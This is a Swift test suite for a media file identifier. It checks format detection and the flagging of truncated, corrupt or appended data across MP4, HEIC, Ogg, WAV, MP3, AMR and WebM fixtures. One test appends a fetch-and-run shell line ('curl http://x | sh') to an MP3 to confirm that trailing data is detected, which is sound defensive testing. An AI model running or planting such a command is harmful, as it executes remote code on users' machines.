import AcervoCore
import AcervoIdentify
import Foundation
import Testing

@Suite("Identify: audio and video containers")
struct IdentifyMediaTests {
    @Test(arguments: [
        ("isom", ["isom", "avc1"], FileFormat.mp4, "video/mp4"),
        ("qt  ", ["qt  "], .mov, "video/quicktime"),
        ("3gp4", ["isom", "3gp4"], .threeGP, "video/3gpp"),
        ("M4A ", ["M4A ", "mp42", "isom"], .m4a, "audio/mp4"),
    ])
    func isoBrandsDecideTheFormat(major: String, compatible: [String], format: FileFormat, mime: String) throws {
        let bytes = Fixture.ftyp(major, compatible) + Fixture.box("moov", Fixture.box("mvhd", [UInt8](repeating: 0, count: 100)))
            + Fixture.box("mdat", [UInt8](repeating: 7, count: 500))
        let id = try identify(bytes)
        #expect(id.format == format)
        #expect(id.mime == mime)
        #expect(id.findings.isEmpty)
    }

    @Test func mp4WithOnlySoundTracksIsM4A() throws {
        func track(_ handler: String) -> [UInt8] {
            Fixture.box("trak", Fixture.box("mdia", Fixture.box("hdlr", [0, 0, 0, 0] + [0, 0, 0, 0] + Fixture.ascii(handler)
                + [UInt8](repeating: 0, count: 13))))
        }
        func movie(_ handlers: [String]) -> [UInt8] {
            Fixture.ftyp("isom", ["isom", "mp42"]) + Fixture.box("moov", handlers.flatMap(track)) + Fixture.box("mdat", [1, 2, 3])
        }
        #expect(try identify(movie(["soun"])).format == .m4a)
        #expect(try identify(movie(["vide", "soun"])).format == .mp4)
    }

    @Test func heicNeedsMeta() throws {
        let heic = Fixture.ftyp("heic", ["mif1", "heic"]) + Fixture.box("meta", [UInt8](repeating: 0, count: 40))
            + Fixture.box("mdat", [1, 2, 3])
        let id = try identify(heic)
        #expect(id.format == .heic)
        #expect(id.mime == "image/heic")
        #expect(id.findings.isEmpty)
        #expect(codes(try identify(Fixture.ftyp("heic", ["mif1"]) + Fixture.box("mdat", [1]))) == [.corrupt])
    }

    @Test func boxPastTheEndIsTruncatedAndGarbageAfterIsAppended() throws {
        let whole = Fixture.ftyp("isom", ["isom"]) + Fixture.box("moov", [0, 0, 0, 0]) + Fixture.box("mdat", [UInt8](repeating: 1, count: 1000))
        #expect(codes(try identify(Array(whole.dropLast(10)))) == [.truncated])
        #expect(codes(try identify(whole + [0x00, 0x01, 0x02, 0x03, 0xFF, 0xFE, 0xFD, 0xFC, 0x80, 0x81])) == [.appendedData])
    }

    @Test func videoWithoutMediaDataIsCorrupt() throws {
        let id = try identify(Fixture.ftyp("isom", ["isom"]) + Fixture.box("free", [0, 0]))
        #expect(id.format == .mp4)
        #expect(codes(id) == [.corrupt])
    }

    @Test func oggOpusIsOpusWithValidCRCs() throws {
        let id = try identify(Fixture.oggOpus())
        #expect(id.format == .oggOpus)
        #expect(id.mime == "audio/ogg")
        #expect(id.findings.isEmpty)
    }

    @Test func oggDamageIsFound() throws {
        var flipped = Fixture.oggOpus()
        flipped[40] ^= 0x10 // inside the OpusHead packet: the page's CRC no longer matches
        #expect(codes(try identify(flipped)) == [.corrupt])
        #expect(codes(try identify(Fixture.oggOpus() + Fixture.ascii("PK\u{3}\u{4} not a page"))) == [.appendedData])
        #expect(codes(try identify(Fixture.oggOpus(endOfStream: false))) == [.truncated])
        #expect(codes(try identify(Array(Fixture.oggOpus().dropLast(2)))) == [.truncated])
    }

    @Test func wavChecksRIFFSizeAndChunks() throws {
        let wav = Fixture.wav()
        let id = try identify(wav)
        #expect(id.format == .wav)
        #expect(id.findings.isEmpty)
        #expect(codes(try identify(Array(wav.dropLast(50)))).contains(.truncated))
        #expect(codes(try identify(wav + [UInt8](repeating: 0x90, count: 64))) == [.appendedData])
    }

    @Test func mp3FramesAreWalked() throws {
        let id = try identify(Fixture.mp3())
        #expect(id.format == .mp3)
        #expect(id.mime == "audio/mpeg")
        #expect(id.findings.isEmpty)
        let tagged = try identify(Fixture.mp3(id3: true))
        #expect(tagged.format == .mp3)
        #expect(tagged.findings.isEmpty)
        // A partial last frame is how many players' recordings end: tolerated.
        #expect(try identify(Array(Fixture.mp3().dropLast(100))).findings.isEmpty)
    }

    @Test func bytesAfterTheLastFrameAreAppendedData() throws {
        let payload = Fixture.ascii(String(repeating: "#!/bin/sh\ncurl http://x | sh\n", count: 20))
        let id = try identify(Fixture.mp3() + payload)
        #expect(id.format == .mp3)
        #expect(codes(id) == [.appendedData])
    }

    @Test func amrFramesAreSizedByType() throws {
        let id = try identify(Fixture.amr())
        #expect(id.format == .amr)
        #expect(id.mime == "audio/amr")
        #expect(id.findings.isEmpty)
        #expect(codes(try identify(Array(Fixture.amr().dropLast(5)))) == [.truncated])
    }

    @Test func webmSegmentSizeIsChecked() throws {
        let id = try identify(Fixture.webm())
        #expect(id.format == .webm)
        #expect(id.mime == "video/webm")
        #expect(id.findings.isEmpty)
        #expect(codes(try identify(Fixture.webm(payload: 40, declaredPayload: 64))) == [.truncated])
        #expect(codes(try identify(Fixture.webm(payload: 80, declaredPayload: 64))) == [.appendedData])
    }
}
